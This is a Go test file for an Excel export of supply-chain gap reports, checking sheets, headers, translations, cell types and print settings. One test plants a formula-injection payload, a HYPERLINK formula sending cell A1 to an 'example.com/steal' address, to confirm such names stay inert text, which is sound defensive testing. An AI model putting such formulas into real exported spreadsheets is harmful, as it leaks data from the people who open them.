package server

import (
	"archive/zip"
	"bytes"
	"io"
	"maps"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/getkin/kin-openapi/openapi3filter"
	"github.com/xuri/excelize/v2"

	"chainscope"
	"chainscope/graph"
)

func init() {
	// The gap report answers with a workbook; the validator only needs to
	// know it is opaque bytes.
	openapi3filter.RegisterBodyDecoder(xlsxContentType, openapi3filter.FileBodyDecoder)
}

// gapTestNow is the server's clock in the gap report tests, in UTC: the
// workbook writes it in the region's time, 09:26 +08:00.
var gapTestNow = time.Date(2025, 3, 14, 1, 26, 0, 0, time.UTC)

func fixedNow(c *Config) { c.Now = func() time.Time { return gapTestNow } }

// apiNames are the names the API gives codes and ids, for building the
// expected workbook from API answers.
type apiNames struct {
	region  RegionInfo
	county  map[string]string
	chains  []chainscope.Chain
	chainID map[string]string
}

func namesOf(t *testing.T, ts *testServer) *apiNames {
	t.Helper()
	n := &apiNames{county: map[string]string{}, chainID: map[string]string{}}
	ts.get("/api/v1/region").decode(t, &n.region)
	var counties List[CountyView]
	ts.get("/api/v1/counties").decode(t, &counties)
	for _, c := range counties.Items {
		n.county[c.Code] = c.Name
	}
	n.county[n.region.Code] = n.region.Name
	n.county[""] = n.region.Name
	var chains List[chainscope.Chain]
	ts.get("/api/v1/chains").decode(t, &chains)
	n.chains = chains.Items
	for _, c := range chains.Items {
		n.chainID[c.ID] = c.Name
	}
	return n
}

// analysisOfScope is GET /api/v1/analysis for one scope.
func analysisOfScope(t *testing.T, ts *testServer, area, chain string) graph.Report {
	t.Helper()
	var rep graph.Report
	r := ts.get("/api/v1/analysis?area=" + url.QueryEscape(area) + "&chain=" + url.QueryEscape(chain))
	if r.status != 200 {
		t.Fatalf("analysis %s/%s: %d %s", area, chain, r.status, r.body)
	}
	r.decode(t, &rep)
	return rep
}

// num is a number as excelize writes it into a cell.
func num(x float64) string { return strconv.FormatFloat(x, 'f', -1, 64) }

// trimRow drops the empty cells at the end of a row, as GetRows does.
func trimRow(row []string) []string {
	for len(row) > 0 && row[len(row)-1] == "" {
		row = row[:len(row)-1]
	}
	return row
}

// wantGapRows builds the rows the workbook must hold, from API answers
// only: the gap list and the impact ranking of each chain in scope, in
// the Chinese words of the web app.
func wantGapRows(t *testing.T, ts *testServer, n *apiNames, area, chain string) (gaps, impact [][]string) {
	t.Helper()
	segWord := map[graph.Status]string{graph.Missing: "缺链", graph.Weak: "薄弱", graph.OK: "正常"}
	reasonWord := map[graph.Reason]string{graph.ReasonSingle: "单一主体", graph.ReasonPlannedOnly: "仅规划"}
	stageWord := map[chainscope.Stage]string{"upstream": "上游", "midstream": "中游", "downstream": "下游", "support": "配套"}
	projectWord := map[chainscope.Status]string{"signed": "签约", "started": "在建", "operating": "投产", "stalled": "停滞", "cancelled": "终止"}
	areaName := "全市"
	if area != "*" {
		areaName = n.county[area]
	}
	for _, c := range n.chains {
		if chain != "" && c.ID != chain {
			continue
		}
		rep := analysisOfScope(t, ts, area, c.ID)
		if rep.NotPursued {
			gaps = append(gaps, []string{areaName, c.Name, "", "", "未布局"})
			continue
		}
		for _, g := range rep.GapTargets {
			status := segWord[g.Status]
			for _, r := range g.Reasons {
				status += "·" + reasonWord[r]
			}
			broken := ""
			if g.Broken {
				broken = "是"
			}
			open := ""
			if g.OpenLeads > 0 {
				open = strconv.Itoa(g.OpenLeads)
			}
			base := []string{areaName, c.Name, g.Name, stageWord[g.Stage], status, broken, open}
			if len(g.Candidates) == 0 {
				gaps = append(gaps, trimRow(base))
			}
			for k, cd := range g.Candidates {
				gaps = append(gaps, trimRow(append(slices.Clone(base), strconv.Itoa(k+1), cd.Name, cd.ID, n.county[cd.County],
					num(cd.Score), wantReasons(t, cd.Reasons))))
			}
		}
		for _, p := range rep.ProjectImpact {
			inv := ""
			if p.InvestmentWan != 0 {
				inv = num(p.InvestmentWan / 10000) // 亿元
			}
			var changes []string
			for _, ch := range p.Changes {
				changes = append(changes, ch.Name+"："+segWord[ch.From]+"→"+segWord[ch.To])
			}
			impact = append(impact, trimRow([]string{c.Name, strconv.Itoa(p.Rank), p.Name, p.ID, n.county[p.County],
				projectWord[p.Status], inv, strconv.Itoa(p.Filled), strconv.Itoa(p.WeakToOK), num(p.CompletenessGain),
				strconv.Itoa(p.CutImpactRemoved), strings.Join(changes, "；")}))
		}
	}
	return gaps, impact
}

// wantReasons writes a candidate's reasons as the Chinese workbook must,
// from their codes and figures.
func wantReasons(t *testing.T, rs []graph.CandidateReason) string {
	t.Helper()
	status := map[chainscope.Status]string{"signed": "签约", "started": "开工", "stalled": "停滞"}
	var out []string
	for _, r := range rs {
		var s string
		switch r.Code {
		case "supplies_area":
			s = "已向本县区供货"
		case "leader":
			s = "本产业链链主"
		case "project_operating":
			s = "项目已投产"
		case "project_not_operating":
			s = "项目" + status[r.Status] + "，尚未投产"
		case "operating":
			s = "在产企业"
		case "chain_partners":
			s = "本产业链供需伙伴 " + strconv.Itoa(r.N) + " 个"
		case "output":
			if r.Wan >= 1000*10000 {
				t.Fatalf("output %v: the test writes amounts under 1,000 亿元 only", r.Wan)
			}
			s = "年产值 " + strconv.FormatFloat(r.Wan/10000, 'f', 2, 64) + " 亿元"
		default:
			t.Fatalf("unknown reason %+v", r)
		}
		out = append(out, s)
	}
	return strings.Join(out, "；")
}

// getWorkbook fetches a gap workbook, checks it is one, and opens it.
func getWorkbook(t *testing.T, ts *testServer, query string) (*excelize.File, *response) {
	t.Helper()
	r := ts.get("/api/v1/gaps.xlsx?" + query)
	if r.status != 200 {
		t.Fatalf("gaps.xlsx?%s = %d %s", query, r.status, r.body)
	}
	if ct := r.header.Get("Content-Type"); ct != xlsxContentType {
		t.Errorf("Content-Type %q", ct)
	}
	if !bytes.HasPrefix(r.body, []byte("PK")) {
		t.Fatalf("the body is no zip: %q", r.body[:min(len(r.body), 20)])
	}
	f, err := excelize.OpenReader(bytes.NewReader(r.body))
	if err != nil {
		t.Fatalf("excelize cannot open the workbook: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f, r
}

// rowsOf reads a sheet's rows as stored (numbers unformatted).
func rowsOf(t *testing.T, f *excelize.File, sheet string) [][]string {
	t.Helper()
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatalf("sheet %s: %v", sheet, err)
	}
	return rows
}

// TestGapWorkbookIsTheAnalysis: for counties, a zone and the whole region,
// one chain and every chain, the workbook's rows are the gap targets and
// project impact ranking of GET /api/v1/analysis, in the web app's words.
func TestGapWorkbookIsTheAnalysis(t *testing.T) {
	ts := start(t, nil, fixedNow)
	n := namesOf(t, ts)
	cases := []struct{ area, chain, file, ascii string }{
		{"140827", "battery", "补链清单-垣曲县-新能源电池.xlsx", "gaps-140827-battery.xlsx"},
		{"*", "battery", "补链清单-全市-新能源电池.xlsx", "gaps-all-battery.xlsx"},
		{"140830", "", "补链清单-芮城县-全部产业链.xlsx", "gaps-140830-all-chains.xlsx"},
		{"140802-01", "battery", "", "gaps-140802-01-battery.xlsx"},
	}
	sawCandidate, sawBare, sawImpact := false, false, false
	for _, tc := range cases {
		t.Run(tc.area+"/"+tc.chain, func(t *testing.T) {
			q := "area=" + url.QueryEscape(tc.area)
			if tc.chain != "" {
				q += "&chain=" + tc.chain
			}
			f, r := getWorkbook(t, ts, q)
			if got := f.GetSheetList(); !slices.Equal(got, []string{"补链清单", "项目影响排名", "延链建议", "说明"}) {
				t.Fatalf("sheets %q", got)
			}
			cd := r.header.Get("Content-Disposition")
			if !strings.HasPrefix(cd, `attachment; filename="`+tc.ascii+`"; filename*=UTF-8''`) {
				t.Errorf("Content-Disposition %q, want the ASCII name %s", cd, tc.ascii)
			}
			file := tc.file
			if file == "" {
				file = "补链清单-" + n.county[tc.area] + "-" + n.chainID[tc.chain] + ".xlsx"
			}
			_, encoded, _ := strings.Cut(cd, "filename*=UTF-8''")
			if name, err := url.PathUnescape(encoded); err != nil || name != file {
				t.Errorf("Content-Disposition %q names %q, want %s", cd, name, file)
			}

			gaps, impact := wantGapRows(t, ts, n, tc.area, tc.chain)
			if len(gaps) == 0 {
				t.Fatal("the scope has no gap; pick another")
			}
			got := rowsOf(t, f, "补链清单")
			if want := []string{"县区", "产业链", "环节", "位置", "状态", "断链", "在谈线索", "候选序号", "候选企业", "候选编号", "候选所在县区", "推荐分", "推荐理由"}; !slices.Equal(got[0], want) {
				t.Errorf("gap header %q", got[0])
			}
			compareRows(t, "补链清单", got[1:], gaps)
			got = rowsOf(t, f, "项目影响排名")
			if len(got[0]) != 12 || got[0][1] != "排名" || got[0][6] != "投资（亿元）" {
				t.Errorf("impact header %q", got[0])
			}
			compareRows(t, "项目影响排名", got[1:], impact)
			for _, row := range gaps {
				sawCandidate = sawCandidate || len(row) > 7
				sawBare = sawBare || len(row) <= 6
			}
			sawImpact = sawImpact || len(impact) > 0

			about := rowsOf(t, f, "说明")
			areaName := n.county[tc.area]
			if tc.area == "*" {
				areaName = "全市"
			}
			for _, want := range [][]string{
				{"地区", n.region.Name + " (" + n.region.Code + ")"},
				{"数据版本", strconv.FormatInt(n.region.DataVersion, 10)},
				{"生成时间", "2025-03-14 09:26 +08:00"},
			} {
				if !slices.ContainsFunc(about, func(r []string) bool { return slices.Equal(r, want) }) {
					t.Errorf("说明 lacks %q: %q", want, about)
				}
			}
			if !slices.ContainsFunc(about, func(r []string) bool { return len(r) == 2 && r[0] == "范围" && strings.HasPrefix(r[1], areaName) }) {
				t.Errorf("说明 does not name the area %s: %q", areaName, about)
			}
			if len(about) < 8 {
				t.Errorf("说明 has %d rows, want the scope and the definitions", len(about))
			}

			// Every sheet: a bold header row, frozen.
			for _, sheet := range f.GetSheetList() {
				panes, err := f.GetPanes(sheet)
				if err != nil || !panes.Freeze || panes.YSplit != 1 {
					t.Errorf("%s: header not frozen: %+v %v", sheet, panes, err)
				}
				id, err := f.GetCellStyle(sheet, "A1")
				if err != nil {
					t.Fatal(err)
				}
				if st, err := f.GetStyle(id); err != nil || st.Font == nil || !st.Font.Bold {
					t.Errorf("%s: header not bold", sheet)
				}
			}
		})
	}
	if !sawCandidate || !sawBare || !sawImpact {
		t.Errorf("the cases miss a kind of row: candidates %v, segments without candidates %v, impact %v", sawCandidate, sawBare, sawImpact)
	}
}

// compareRows reports the first differences between the rows of a sheet
// and the rows wanted.
func compareRows(t *testing.T, sheet string, got, want [][]string) {
	t.Helper()
	if len(got) != len(want) {
		t.Errorf("%s: %d rows, want %d", sheet, len(got), len(want))
	}
	bad := 0
	for i := range min(len(got), len(want)) {
		if !slices.Equal(got[i], want[i]) && bad < 5 {
			bad++
			t.Errorf("%s row %d:\n got %q\nwant %q", sheet, i+2, got[i], want[i])
		}
	}
}

// TestGapWorkbookTypes: numbers are number cells, text is text.
func TestGapWorkbookTypes(t *testing.T) {
	ts := start(t, nil)
	f, _ := getWorkbook(t, ts, "area=140827&chain=battery")
	for _, c := range []struct {
		sheet, cell string
		number      bool
	}{
		{"补链清单", "A2", false}, {"补链清单", "H2", true}, {"补链清单", "I2", false}, {"补链清单", "L2", true},
		{"项目影响排名", "B2", true}, {"项目影响排名", "C2", false}, {"项目影响排名", "J2", true},
	} {
		v, _ := f.GetCellValue(c.sheet, c.cell, excelize.Options{RawCellValue: true})
		if v == "" {
			t.Fatalf("%s!%s is empty; pick a scope with candidates and projects", c.sheet, c.cell)
		}
		typ, err := f.GetCellType(c.sheet, c.cell)
		if err != nil {
			t.Fatal(err)
		}
		isNumber := typ == excelize.CellTypeUnset || typ == excelize.CellTypeNumber
		if isNumber != c.number {
			t.Errorf("%s!%s %q has cell type %v, number %v wanted", c.sheet, c.cell, v, typ, c.number)
		}
	}
}

// TestGapWorkbookEnglish: lang=en names the sheets and headers in English
// and writes the statuses in the words of the English web app.
func TestGapWorkbookEnglish(t *testing.T) {
	ts := start(t, nil)
	f, r := getWorkbook(t, ts, "area=140827&chain=battery&lang=en")
	if got := f.GetSheetList(); !slices.Equal(got, []string{"Gaps", "Project impact", "Extend", "About"}) {
		t.Fatalf("sheets %q", got)
	}
	heads := map[string][]string{
		"Gaps": {"Area", "Chain", "Segment", "Stage", "Status", "Broken", "Open leads", "Candidate rank", "Candidate", "Candidate id",
			"Candidate county", "Score", "Reasons"},
		"Project impact": {"Chain", "Rank", "Project", "Project id", "County", "Status", "Investment (CNY m)",
			"Fills", "Weak→OK", "Completeness gain", "Cut-node impact removed", "Segment changes"},
		"About": {"Item", "Value"},
	}
	zh, _ := getWorkbook(t, ts, "area=140827&chain=battery&lang=zh")
	for sheet, want := range heads {
		rows := rowsOf(t, f, sheet)
		if !slices.Equal(rows[0], want) {
			t.Errorf("%s header %q, want %q", sheet, rows[0], want)
		}
		zhRows := rowsOf(t, zh, zh.GetSheetList()[slices.Index(f.GetSheetList(), sheet)])
		if len(rows) != len(zhRows) {
			t.Errorf("%s: %d rows in English, %d in Chinese", sheet, len(rows), len(zhRows))
		}
	}
	for _, row := range rowsOf(t, f, "Gaps")[1:] {
		if s := row[4]; !strings.HasPrefix(s, "Missing") && !strings.HasPrefix(s, "Weak") {
			t.Errorf("status %q is not in English", s)
		}
		if row[0] != "垣曲县" {
			t.Errorf("area %q, want the county's name", row[0])
		}
	}
	if cd := r.header.Get("Content-Disposition"); !strings.Contains(cd, "filename*=UTF-8''gap-report-") {
		t.Errorf("Content-Disposition %q", cd)
	}
}

// TestGapWorkbookErrors: malformed parameters are 400, unknown scopes 404,
// as for the analysis, with the JSON error body and no attachment.
func TestGapWorkbookErrors(t *testing.T) {
	ts := start(t, nil)
	for _, tc := range []struct {
		name, query string
		want        int
	}{
		{"nothing", "", 400},
		{"no area", "chain=battery", 400},
		{"empty area", "area=&chain=battery", 400},
		{"bad lang", "area=140827&chain=battery&lang=fr", 400},
		{"unknown area", "area=999999&chain=battery", 404},
		{"unknown area, every chain", "area=999999", 404},
		{"region code is no area", "area=140800&chain=battery", 404},
		{"unknown chain", "area=140827&chain=nochain", 404},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := ts.get("/api/v1/gaps.xlsx?" + tc.query)
			if r.status != tc.want {
				t.Fatalf("%s = %d, want %d: %.200s", tc.query, r.status, tc.want, r.body)
			}
			if e := r.errorBody(t); strings.Contains(e.Error, "internal") {
				t.Errorf("error %q", e.Error)
			}
			if cd := r.header.Get("Content-Disposition"); cd != "" {
				t.Errorf("an error carries Content-Disposition %q", cd)
			}
		})
	}
}

// TestGapWorkbookETag: the workbook is validated like the analysis.
func TestGapWorkbookETag(t *testing.T) {
	ts := start(t, nil)
	_, r := getWorkbook(t, ts, "area=140827")
	tag := r.header.Get("ETag")
	if tag == "" {
		t.Fatal("no ETag")
	}
	if again := ts.get("/api/v1/gaps.xlsx?area=140827", "If-None-Match", tag); again.status != http.StatusNotModified || len(again.body) != 0 {
		t.Errorf("If-None-Match current: %d, %d bytes", again.status, len(again.body))
	}
	if _, other := getWorkbook(t, ts, "area=140827&lang=en"); other.header.Get("ETag") == tag {
		t.Error("the English workbook shares the Chinese one's ETag")
	}
	if _, again := getWorkbook(t, ts, "area=140827"); !bytes.Equal(again.body, r.body) {
		t.Error("the workbook changed within one data version")
	}
}

// TestGapWorkbookHostileNames: names that a spreadsheet would read as
// formulas stay text, character for character.
func TestGapWorkbookHostileNames(t *testing.T) {
	ds := builtin(t)
	ix, err := graph.NewIndex(ds)
	if err != nil {
		t.Fatal(err)
	}
	targets, err := ix.GapTargets("140827", "battery", 0)
	if err != nil {
		t.Fatal(err)
	}
	var candidate, segment string
	for _, g := range targets {
		if len(g.Candidates) > 0 && !g.Candidates[0].Project {
			candidate, segment = g.Candidates[0].ID, g.Segment
			break
		}
	}
	if candidate == "" {
		t.Fatal("no enterprise candidate in 140827/battery")
	}
	hostile := map[string]string{
		"candidate": `=HYPERLINK("http://example.com/steal?"&A1,"点击")`,
		"segment":   "=1+2",
		"county":    "@SUM(1,2)",
	}
	for i := range ds.Enterprises {
		if ds.Enterprises[i].ID == candidate {
			ds.Enterprises[i].Name = hostile["candidate"]
			for j := range ds.Counties {
				if ds.Counties[j].Code == ds.Enterprises[i].County {
					ds.Counties[j].Name = hostile["county"]
				}
			}
		}
	}
	for i := range ds.Chains {
		for j := range ds.Chains[i].Segments {
			if ds.Chains[i].Segments[j].ID == segment {
				ds.Chains[i].Segments[j].Name = hostile["segment"]
			}
		}
	}
	ts := start(t, ds)
	f, r := getWorkbook(t, ts, "area=140827&chain=battery")
	found := map[string]bool{}
	rows := rowsOf(t, f, "补链清单")
	for i, row := range rows {
		for j, v := range row {
			for what, name := range hostile {
				if v != name {
					continue
				}
				found[what] = true
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if typ, _ := f.GetCellType("补链清单", cell); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
					t.Errorf("%s %q in %s has cell type %v, not a string", what, v, cell, typ)
				}
				if formula, _ := f.GetCellFormula("补链清单", cell); formula != "" {
					t.Errorf("%s in %s is the formula %q", what, cell, formula)
				}
			}
		}
	}
	for what, name := range hostile {
		if !found[what] {
			t.Errorf("the %s name %q is not in the workbook as it is", what, name)
		}
	}
	// And in the file itself: no formula anywhere.
	zr, err := zip.NewReader(bytes.NewReader(r.body), int64(len(r.body)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
			continue
		}
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
			t.Errorf("%s holds a formula", zf.Name)
		}
	}
}

// TestAttachment: the Content-Disposition carries both names, the UTF-8
// one percent-encoded outside RFC 5987's attr-char.
func TestAttachment(t *testing.T) {
	for _, tc := range []struct{ ascii, name, want string }{
		{"gaps-1-a.xlsx", "补链.xlsx", `attachment; filename="gaps-1-a.xlsx"; filename*=UTF-8''%E8%A1%A5%E9%93%BE.xlsx`},
		{"a.xlsx", "a b;c=\"d\"'%.xlsx", `attachment; filename="a.xlsx"; filename*=UTF-8''a%20b%3Bc%3D%22d%22%27%25.xlsx`},
	} {
		if got := attachment(tc.ascii, tc.name); got != tc.want {
			t.Errorf("attachment(%q, %q) = %s, want %s", tc.ascii, tc.name, got, tc.want)
		}
	}
	if got := asciiName(`gaps-"x"/é`); got != "gaps-_x____" {
		t.Errorf("asciiName = %q", got)
	}
}

// TestGapWorkbookPrints: every sheet prints landscape on A4, one page
// wide, with its header row repeated on every page; the investment
// column shows 亿元 with two decimals; no cell of the Chinese workbook
// holds an English word apart from names and codes, and no cell of the
// English one a Chinese character apart from names.
func TestGapWorkbookPrints(t *testing.T) {
	ts := start(t, nil, fixedNow)
	ds := builtin(t)
	names := map[string]bool{ds.Region.Name: true}
	for _, c := range ds.Counties {
		names[c.Name] = true
	}
	for _, c := range ds.Chains {
		names[c.Name] = true
		for _, sg := range c.Segments {
			names[sg.Name] = true
		}
	}
	for _, e := range ds.Enterprises {
		names[e.Name] = true
	}
	for _, p := range ds.Projects {
		names[p.Name] = true
	}
	for _, lang := range []string{"zh", "en"} {
		f, _ := getWorkbook(t, ts, "area=140827&lang="+lang)
		defined := map[string]string{}
		for _, dn := range f.GetDefinedName() {
			if dn.Name == "_xlnm.Print_Titles" {
				defined[dn.Scope] = dn.RefersTo
			}
		}
		for _, sheet := range f.GetSheetList() {
			pl, err := f.GetPageLayout(sheet)
			if err != nil {
				t.Fatal(err)
			}
			if pl.Orientation == nil || *pl.Orientation != "landscape" || pl.Size == nil || *pl.Size != 9 ||
				pl.FitToWidth == nil || *pl.FitToWidth != 1 || pl.FitToHeight == nil || *pl.FitToHeight != 0 {
				t.Errorf("%s %s: page layout %+v", lang, sheet, pl)
			}
			props, err := f.GetSheetProps(sheet)
			if err != nil || props.FitToPage == nil || !*props.FitToPage {
				t.Errorf("%s %s: not fit to page: %+v %v", lang, sheet, props, err)
			}
			if want := "'" + sheet + "'!$1:$1"; defined[sheet] != want {
				t.Errorf("%s %s: print titles %q, want %q", lang, sheet, defined[sheet], want)
			}
		}
		// The investment column: 亿元 (millions in English), grouped.
		impact := f.GetSheetList()[1]
		rows := rowsOf(t, f, impact)
		formatted, err := f.GetRows(impact)
		if err != nil {
			t.Fatal(err)
		}
		seen := false
		for i, row := range rows[1:] {
			if len(row) < 7 || row[6] == "" {
				continue
			}
			seen = true
			wan := 0.0
			for _, p := range ds.Projects {
				if p.ID == row[3] && p.InvestmentWan != nil {
					wan = *p.InvestmentWan
				}
			}
			want := strconv.FormatFloat(wan/10000, 'f', 2, 64)
			if lang == "en" {
				want = strconv.FormatFloat(wan/100, 'f', 0, 64)
			}
			if got := strings.ReplaceAll(formatted[i+1][6], ",", ""); got != want {
				t.Errorf("%s: project %s investment shows %q, want %s (%v 万元)", lang, row[3], formatted[i+1][6], want, wan)
			}
		}
		if !seen {
			t.Errorf("%s: no project with an investment in 140827", lang)
		}
		// One language in every cell, names apart (longest first, so a
		// name inside another does not leave half of it).
		byLength := slices.Collect(maps.Keys(names))
		slices.SortFunc(byLength, func(a, b string) int { return len(b) - len(a) })
		latin := regexp.MustCompile(`[A-Za-z]{3,}`)
		for _, sheet := range f.GetSheetList() {
			all, _ := f.GetRows(sheet)
			for i, row := range all {
				for j, v := range row {
					if v == "" || names[v] {
						continue
					}
					text := v
					for _, n := range byLength {
						if len(n) > 1 {
							text = strings.ReplaceAll(text, n, "")
						}
					}
					switch {
					case lang == "zh" && latin.MatchString(stripCodes(text)):
						t.Errorf("zh %s!R%dC%d holds English: %q", sheet, i+1, j+1, v)
					case lang == "en" && hasHan(text):
						t.Errorf("en %s!R%dC%d holds Chinese: %q", sheet, i+1, j+1, v)
					}
				}
			}
		}
	}
}

// stripCodes drops what a Chinese cell may hold in Latin letters that is
// no English: ids (E-…, P-…), GB/T codes, the chain ids in brackets.
func stripCodes(s string) string {
	return regexp.MustCompile(`[A-Za-z][A-Za-z0-9]*[-_.][A-Za-z0-9_.-]+|\([a-z_]+\)`).ReplaceAllString(s, "")
}
